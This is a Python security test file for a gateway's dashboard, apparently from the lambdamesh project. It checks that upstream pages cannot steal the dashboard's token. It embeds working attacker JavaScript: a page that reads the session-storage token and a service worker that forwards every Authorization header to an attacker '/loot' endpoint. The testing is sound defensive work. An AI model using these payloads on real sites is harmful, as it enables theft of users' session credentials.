"""The dashboard's token against an upstream that wants it, in a real browser.

Anyone holding one service token can register an upstream, and an operator may open that
service's pages through the gateway. Those pages must never be able to act on the dashboard:
no service worker of theirs may see the dashboard's requests, and no script of theirs may read
the dashboard's session storage. So the dashboard lives on an origin of its own (the console's
port under `lambdamesh dev`, the console's domain when deployed), which serves no upstream
content, and the gateway drops `Service-Worker-Allowed` from upstream answers.
"""

from __future__ import annotations

import re
import signal
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from chalicelib.auth import issue
from lambdamesh.keys import DEV_SIGNING_KEY
from tests.e2e.processes import Process, eventually, http, spawn
from tests.e2e.test_dashboard import WAIT_MS, browser, sign_in  # noqa: F401 - fixture

# The attacker's page: a service worker claimed for the whole origin, and a look at the tab's
# session storage; whatever it finds is sent home through the gateway.
EVIL_PAGE = b"""<!doctype html><title>evil</title><script>
const home = location.pathname.replace(/\\/page$/, "");
const report = (what, value) =>
  fetch(home + "/loot?" + what + "=" + encodeURIComponent(String(value)));
report("storage", sessionStorage.getItem("lambdamesh.token"));
navigator.serviceWorker.register(home + "/sw.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "registered"; report("registered", "yes"); },
        (error) => { document.title = "refused"; report("refused", error.name); });
</script>"""
# The worker forwards every Authorization header it sees to the attacker.
EVIL_WORKER = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const auth = event.request.headers.get("authorization");
  if (auth) {
    fetch(self.registration.scope + "api/v1/evil/v1/loot?header=" + encodeURIComponent(auth));
  }
  event.respondWith(fetch(event.request));
});
"""


class Attacker:
    """An upstream registered as service ``evil`` that serves the page and the worker, and
    records what comes back to it."""

    def __init__(self) -> None:
        self.loot: list[tuple[str, str]] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = urlsplit(self.path)
                if path.path == "/page":
                    self._send(EVIL_PAGE, "text/html")
                elif path.path == "/sw.js":
                    self._send(EVIL_WORKER, "text/javascript", {"Service-Worker-Allowed": "/"})
                elif path.path == "/loot":
                    for key, values in parse_qs(path.query).items():
                        attacker.loot.extend((key, v) for v in values)
                    self._send(b"ok", "text/plain")
                else:
                    self._send(b"not here", "text/plain", status=404)

            def _send(
                self,
                body: bytes,
                kind: str,
                extra: dict[str, str] | None = None,
                status: int = 200,
            ) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                for name, value in (extra or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    def found(self, key: str) -> list[str]:
        return [value for k, value in self.loot if k == key]


@pytest.fixture(scope="module")
def lanes() -> Iterator[tuple[str, str]]:
    """``lambdamesh dev --demo``: the gateway's URL and the dashboard's."""
    process: Process = spawn("demo", ["-m", "lambdamesh.cli", "dev", "--demo", "--port", "0"])
    try:
        gateway = process.wait_for_line(r"ready on (http://\S+)", timeout=60).group(1)
        dashboard = process.wait_for_line(r"Dashboard: (http://\S+)/dashboard", timeout=60)
        yield gateway, dashboard.group(1)
    finally:
        process.signal(signal.SIGTERM)
        process.popen.wait(30)


@pytest.fixture(scope="module")
def attacker(lanes: tuple[str, str]) -> Iterator[Attacker]:
    gateway, _ = lanes
    evil = Attacker()
    registered = http(
        "PUT",
        f"{gateway}/registry/services/evil/instances/evil-0",
        f'{{"version": "v1", "host": "127.0.0.1", "port": {evil.port}, '
        '"lease_seconds": 300}'.encode(),
        {
            "Content-Type": "application/json",
            "Authorization": f"Bearer {issue(DEV_SIGNING_KEY.encode(), service='evil')}",
        },
    )
    assert registered.status == 201, registered.body
    exposed = http(
        "PUT",
        f"{gateway}/registry/services/evil/exposure",
        b'{"exposed": true, "auth": ["none"]}',
        {
            "Content-Type": "application/json",
            "Authorization": f"Bearer {issue(DEV_SIGNING_KEY.encode())}",
        },
    )
    assert exposed.status == 201, exposed.body
    yield evil
    evil.server.shutdown()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:  # noqa: F811 - one context per test
    context = browser.new_context()
    yield context.new_page()
    context.close()


def visit_evil_page(page: Page, gateway: str) -> str:
    """The operator opens the attacker's page through the gateway; its title says whether a
    worker for the whole origin was registered."""
    page.goto(f"{gateway}/api/v1/evil/v1/page")
    expect(page).to_have_title(re.compile("^(registered|refused)$"), timeout=WAIT_MS)
    return page.title()


def test_the_dashboard_is_served_on_an_origin_apart_from_the_gateways(
    lanes: tuple[str, str],
) -> None:
    gateway, dashboard = lanes
    assert urlsplit(gateway).netloc != urlsplit(dashboard).netloc
    assert http("GET", f"{dashboard}/dashboard").status == 200
    assert http("GET", f"{gateway}/dashboard").status == 404


def test_no_host_header_turns_the_gateways_port_into_the_console(lanes: tuple[str, str]) -> None:
    gateway, _ = lanes

    for host in ("console.localhost", "CONSOLE.localhost.", f"{urlsplit(gateway).netloc}"):
        assert http("GET", f"{gateway}/dashboard", headers={"Host": host}).status == 404


def test_no_upstream_content_is_served_on_the_dashboards_origin(
    lanes: tuple[str, str], attacker: Attacker
) -> None:
    _, dashboard = lanes

    answer = http("GET", f"{dashboard}/api/v1/evil/v1/page")

    assert answer.status == 404
    assert answer.json()["error"]["code"] == "route_not_found"
    assert b"<script" not in answer.body


def test_an_upstream_cannot_claim_the_gateways_whole_origin_for_its_service_worker(
    lanes: tuple[str, str], attacker: Attacker, page: Page
) -> None:
    gateway, _ = lanes

    outcome = visit_evil_page(page, gateway)

    assert outcome == "refused"
    assert attacker.found("registered") == []
    answer = http("GET", f"{gateway}/api/v1/evil/v1/sw.js")
    assert answer.status == 200
    assert "service-worker-allowed" not in {name.lower() for name in answer.headers}


def test_an_upstreams_service_worker_never_sees_the_dashboards_token(
    lanes: tuple[str, str], attacker: Attacker, page: Page
) -> None:
    gateway, dashboard = lanes
    admin = issue(DEV_SIGNING_KEY.encode())
    visit_evil_page(page, gateway)

    page.goto(f"{dashboard}/dashboard")
    sign_in(page, admin)
    expect(page.locator("tr[data-instance]")).not_to_have_count(0, timeout=WAIT_MS)
    # A few refreshes: each would pass through a worker controlling the page.
    page.wait_for_timeout(4500)

    assert not any(admin in value for value in attacker.found("header"))
    assert page.evaluate("navigator.serviceWorker.controller") is None


def test_an_upstream_page_opened_in_the_dashboards_tab_cannot_read_its_token(
    lanes: tuple[str, str], attacker: Attacker, page: Page
) -> None:
    gateway, dashboard = lanes
    admin = issue(DEV_SIGNING_KEY.encode())
    page.goto(f"{dashboard}/dashboard")
    sign_in(page, admin)
    expect(page.locator("tr[data-instance]")).not_to_have_count(0, timeout=WAIT_MS)
    before = len(attacker.found("storage"))

    visit_evil_page(page, gateway)

    # The page's report travels through the gateway on its own; its title may change first.
    eventually(
        lambda: len(attacker.found("storage")) > before,
        WAIT_MS / 1000,
        "the attacker's page did not run",
    )
    seen = attacker.found("storage")[before:]
    assert all(admin not in value for value in seen)
